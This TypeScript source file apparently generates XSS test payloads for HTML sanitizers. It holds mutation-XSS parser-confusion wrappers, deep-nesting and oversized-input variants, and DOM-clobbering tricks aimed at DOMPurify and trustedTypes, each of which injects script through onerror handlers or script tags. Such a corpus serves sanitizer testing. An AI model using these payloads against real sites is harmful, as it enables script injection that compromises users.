import type { Payload, Strike } from "./payload";

/**
 * Places where two parsers disagree about what is markup: what comes out of the first is something else to the
 * second (mutation). `%` is where the payload stands.
 */
const PLACES = [
  '<noscript><p title="</noscript>%">',
  '<textarea><p title="</textarea>%">',
  '<title><p title="</title>%">',
  '<style><p title="</style>%">',
  '<xmp><p title="</xmp>%"></xmp>',
  '<noembed><p title="</noembed>%"></noembed>',
  '<noframes><p title="</noframes>%"></noframes>',
  '<iframe><p title="</iframe>%"></iframe>',
  '<plaintext><p title="%">%',
  '<select><p title="</select>%"></select>',
  "<select><option>%</option></select>",
  "<select><template>%</template></select>%",
  "<template>%</template>%",
  "<template shadowrootmode=open>%</template>",
  "<div><template shadowrootmode=open>%</template></div>",
  "<div><template shadowrootmode=closed shadowrootserializable>%</template></div>",
  "<svg><desc>%</desc></svg>",
  "<svg><title>%</title></svg>",
  "<svg><foreignObject>%</foreignObject></svg>",
  "<svg><foreignObject><math><mi>%</mi></math></foreignObject></svg>",
  "<svg></p>%",
  '<svg></p><style><a id="</style>%">',
  '<svg><style><a title="</style>%">',
  "<svg><style>%",
  "<svg><p>%",
  "<svg><br>%",
  "<svg><font color=x>%",
  "<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>%",
  "<math>%</math>",
  "<math><mtext>%</mtext></math>",
  "<math><mi>%</mi></math>",
  "<math><annotation-xml encoding=text/html>%</annotation-xml></math>",
  "<math><annotation-xml encoding=application/xhtml+xml>%</annotation-xml></math>",
  "<math><annotation-xml encoding=image/svg+xml><svg><desc>%</desc></svg></annotation-xml></math>",
  '<math></p><style><!--</style><p title="--&gt;%">',
  '<math><mtext><table><mglyph><style><!--</style><p title="--&gt;%">',
  "<math><mtext><table><mglyph><svg><mtext><textarea><path id='</textarea>%'>",
  "<math><mtext><p><i></p><a><mtext><style></math>%",
  "<form><math><mtext></form><form><mglyph><style></math>%",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>%'>",
  "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style>%'></style></h1>",
  "<!-- <math><xmp><p></xmp> -->%",
  "<math><style><![CDATA[</style>%]]>",
  "<svg><![CDATA[<p>]]>%",
  "<table><td>%</table>",
  "<table><caption>%</table>",
  "<table><svg><desc><td>%</desc></svg></table>",
  "<table>%<tr><td>x</table>",
  "<colgroup><template>%</template></colgroup>%",
  "<ruby><rt><rp>%</ruby>",
  "<button><button>%",
  "<a><a>%</a></a>",
  "<nobr><nobr>%",
  "<p><p><p>%</p></p></p>",
  "<option><select>%",
  "<marquee>%</marquee>",
  "<details open><summary>%</summary>%</details>",
  "<dialog open>%</dialog>",
  "<div popover>%</div>",
  "<object>%</object>",
  "<video>%</video>",
  "<canvas>%</canvas>",
  "<fieldset><legend>%</legend></fieldset>",
  "<div hidden>%</div>",
  "<div aria-hidden=true style=display:none>%</div>",
  "<custom-element><slot>%</slot></custom-element>",
  "<listing>%</listing>",
  "<comment>%</comment>",
  "<xml id=x>%</xml>",
  "<x:script xmlns:x=http://www.w3.org/1999/xhtml>%</x:script>%",
  "<html><html><body><body>%",
  "<head><title>%",
] as const;

const INSIDE: readonly ((strike: Strike) => string)[] = [
  ({ js }) => `<img src=x onerror=${js}>`,
  ({ js }) => `&lt;img src=x onerror=${js}&gt;<script>${js}</script>`,
];

const DEEP: readonly Payload[] = [
  ({ js }) => `<div>${"<b>".repeat(600)}<script>${js}</script>`,
  ({ js }) => `${"<div>".repeat(5_000)}<script>${js}</script>`,
  ({ js }) => `${"<svg>".repeat(120)}${"<math>".repeat(120)}<img src=x onerror=${js}>`,
  ({ js }) => `${"<form>".repeat(300)}${"<math><mtext>".repeat(100)}<img src=x onerror=${js}>`,
  ({ js }) => `${"<table><tr><td>".repeat(200)}<img src=x onerror=${js}>`,
  ({ js }) => `${"<template>".repeat(100)}${"</template>".repeat(100)}<img src=x onerror=${js}>`,
  ({ js }) => `${"<select><option>".repeat(50)}<img src=x onerror=${js}>`,
  ({ js }) =>
    `<img ${Array.from({ length: 2_000 }, (_, place) => `a${place}=1`).join(" ")} src=x onerror=${js}>`,
  ({ js }) => `<p title="${"x".repeat(200_000)}">x</p><img src=x onerror=${js}>`,
  ({ js }) => `${"<!--".repeat(2_000)}--><img src=x onerror=${js}>`,
  ({ js }) => `${"</p>".repeat(5_000)}<img src=x onerror=${js}>`,
  ({ js }) => `${"<a><b><i><u>".repeat(300)}<img src=x onerror=${js}>`,
];

const CLOBBERING: readonly Payload[] = [
  ({ js }) => `<a id=attributes><a id=attributes name=nodeName><img src=x onerror=${js}>`,
  ({ js }) => `<form id=document><input name=documentElement><img src=x onerror=${js}></form>`,
  ({ js }) => `<img name=createElement><img name=implementation><script>${js}</script>`,
  ({ js }) => `<form><input name=attributes><input name=nodeName><img src=x onerror=${js}></form>`,
  ({ js }) =>
    `<form onclick=1><input name=parentNode><input name=removeChild><img src=x onerror=${js}></form>`,
  ({ js }) => `<form><input name=childNodes><input name=firstChild><img src=x onerror=${js}></form>`,
  ({ js }) => `<img id=DOMPurify><img id=trustedTypes><img src=x onerror=${js}>`,
  ({ js }) => `<iframe name=self srcdoc="<a id=x>"></iframe><img src=x onerror=${js}>`,
  ({ js }) => `<form name=body><input name=appendChild></form><img src=x onerror=${js}>`,
  ({ js }) => `<a id=__proto__></a><a name=constructor></a><img src=x onerror=${js}>`,
];

export const CONTAINERS: readonly Payload[] = [
  ...PLACES.flatMap((place) =>
    INSIDE.map(
      (inside): Payload =>
        (strike) =>
          place.replaceAll("%", () => inside(strike)),
    ),
  ),
  ...DEEP,
  ...CLOBBERING,
];
